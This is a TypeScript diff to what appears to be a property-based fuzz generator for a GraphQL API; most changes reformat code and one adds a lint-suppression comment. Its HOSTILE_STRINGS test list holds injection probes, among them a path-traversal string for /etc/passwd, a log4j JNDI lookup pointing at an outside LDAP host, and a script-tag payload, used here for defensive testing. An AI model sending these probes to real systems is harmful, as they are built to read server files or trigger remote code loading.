@@ -67,7 +67,9 @@ export function printLiteral(value: InputValue): string {
   if (value instanceof EnumValue) return value.name;
   if (Array.isArray(value)) return `[${value.map(printLiteral).join(', ')}]`;
   if (typeof value === 'object') {
-    return `{ ${Object.entries(value).map(([field, inner]) => `${field}: ${printLiteral(inner)}`).join(', ')} }`;
+    return `{ ${Object.entries(value)
+      .map(([field, inner]) => `${field}: ${printLiteral(inner)}`)
+      .join(', ')} }`;
   }
   if (typeof value === 'number') return Object.is(value, -0) ? '0' : String(value);
   // JSON's string escapes are GraphQL's too.
@@ -115,6 +117,7 @@ export const HOSTILE_STRINGS = [
   'word '.repeat(2_000),
   '../../etc/passwd',
   '%00',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j probe, sent as plain text on purpose.
   '${jndi:ldap://example.org/a}',
   '<script>alert(1)</script>',
   'null',
@@ -164,7 +167,10 @@ function stringArbitraries(known: KnownValues, avoid: ReadonlySet<KnownBug>) {
       { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
       { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
       // A plausible value with a control character in it.
-      { weight: 1, arbitrary: fc.tuple(pick(known.slugs, fc.string()), fc.constantFrom('\u0000', '\u0008', '\u001f', '\u007f')).map(([text, control]) => text + control) },
+      {
+        weight: 1,
+        arbitrary: fc.tuple(pick(known.slugs, fc.string()), fc.constantFrom('\u0000', '\u0008', '\u001f', '\u007f')).map(([text, control]) => text + control),
+      },
       { weight: 1, arbitrary: fc.constantFrom('red', 'strike', 'buses', 'the and or not', 'Red Mosque') },
     )
     .filter(allowed);
@@ -185,14 +191,14 @@ function stringArbitraries(known: KnownValues, avoid: ReadonlySet<KnownBug>) {
   // dates that are not dates, numbers past every column's range.
   const forgedCursor = fc
     .tuple(
-      avoid.has('out-of-range-keys') ? fc.constant('no-such-order') : fc.constantFrom('published-desc', 'published-asc', 'search', 'issue-number-desc', 'author-name-asc', 'no-such-order'),
+      avoid.has('out-of-range-keys')
+        ? fc.constant('no-such-order')
+        : fc.constantFrom('published-desc', 'published-asc', 'search', 'issue-number-desc', 'author-name-asc', 'no-such-order'),
       fc.array(
-        fc.oneof(
-          fc.constantFrom(...DATE_TIMES),
-          fc.constantFrom(0, -1, 1e308, 2 ** 31, 9007199254740993, 1.5),
-          fc.jsonValue({ maxDepth: 1 }),
-        ),
-        { maxLength: 3 },
+        fc.oneof(fc.constantFrom(...DATE_TIMES), fc.constantFrom(0, -1, 1e308, 2 ** 31, Number('9007199254740993'), 1.5), fc.jsonValue({ maxDepth: 1 })),
+        {
+          maxLength: 3,
+        },
       ),
     )
     .map(([kind, values]) => base64(JSON.stringify([kind, ...values]), true));
@@ -277,10 +283,7 @@ export class InputValues {
         requiredKeys: fields.filter((field) => isNonNullType(field.type)).map((field) => field.name),
       }) as fc.Arbitrary<Record<string, InputValue>>;
       if (!this.mistakes) return record;
-      return fc.oneof(
-        { weight: 8, arbitrary: record },
-        { weight: 1, arbitrary: record.map((value) => ({ ...value, notAField: 'x' })) },
-      );
+      return fc.oneof({ weight: 8, arbitrary: record }, { weight: 1, arbitrary: record.map((value) => ({ ...value, notAField: 'x' })) });
     }
     switch (type.name) {
       case 'Int':
@@ -294,7 +297,10 @@ export class InputValues {
       case 'DateTime':
         return this.dateTimes;
       case 'Date':
-        return fc.oneof(fc.constantFrom(...DATES), fc.date({ noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)));
+        return fc.oneof(
+          fc.constantFrom(...DATES),
+          fc.date({ noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)),
+        );
       default:
         return this.strings.byName[name] ?? this.strings.generic;
     }
@@ -420,13 +426,11 @@ export class Operations {
     }
     const directives = ['@include(if: true)', '@skip(if: false)', ...(this.mistakes ? ['@skip(if: "yes")', '@nope', '@deprecated'] : [])];
     const directive = fc.oneof({ weight: 20, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom(...directives) });
-    return fc
-      .tuple(fc.boolean(), fc.nat(9999), fc.tuple(...args), unknownArg, directive, selection)
-      .map(([alias, salt, given, extra, marks, sub]) => {
-        const list = [...given, extra].filter((arg): arg is string => arg !== null && arg !== '');
-        const text = `${field.name}${list.length > 0 ? `(${list.join(', ')})` : ''} ${marks} ${sub}`.replace(/\s+/g, ' ').trim();
-        return { name: field.name, alias: alias && salt % 2 === 0, salt, text };
-      });
+    return fc.tuple(fc.boolean(), fc.nat(9999), fc.tuple(...args), unknownArg, directive, selection).map(([alias, salt, given, extra, marks, sub]) => {
+      const list = [...given, extra].filter((arg): arg is string => arg !== null && arg !== '');
+      const text = `${field.name}${list.length > 0 ? `(${list.join(', ')})` : ''} ${marks} ${sub}`.replace(/\s+/g, ' ').trim();
+      return { name: field.name, alias: alias && salt % 2 === 0, salt, text };
+    });
   }
 }
 
@@ -448,16 +452,13 @@ export function variablesFor(operation: OperationDefinitionNode, schema: GraphQL
     const type = typeFromAST(schema, definition.type);
     if (!type || !isInputType(type)) throw new Error(`variable $${definition.variable.name.value} has no input type in the schema`);
     return fc.option(
-      fc.oneof(
-        { weight: 4, arbitrary: values.of(type, definition.variable.name.value).map(toJson) },
-        { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
-      ),
+      fc.oneof({ weight: 4, arbitrary: values.of(type, definition.variable.name.value).map(toJson) }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) }),
       { freq: 8, nil: undefined },
     );
   });
-  const declared = fc.tuple(...perVariable).map((given) =>
-    Object.fromEntries(definitions.flatMap((definition, i) => (given[i] === undefined ? [] : [[definition.variable.name.value, given[i]]]))),
-  );
+  const declared = fc
+    .tuple(...perVariable)
+    .map((given) => Object.fromEntries(definitions.flatMap((definition, i) => (given[i] === undefined ? [] : [[definition.variable.name.value, given[i]]]))));
   const undeclared = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 2 });
   return fc.oneof(
     { weight: 12, arbitrary: fc.tuple(declared, undeclared).map(([given, extra]) => ({ ...extra, ...given })) },
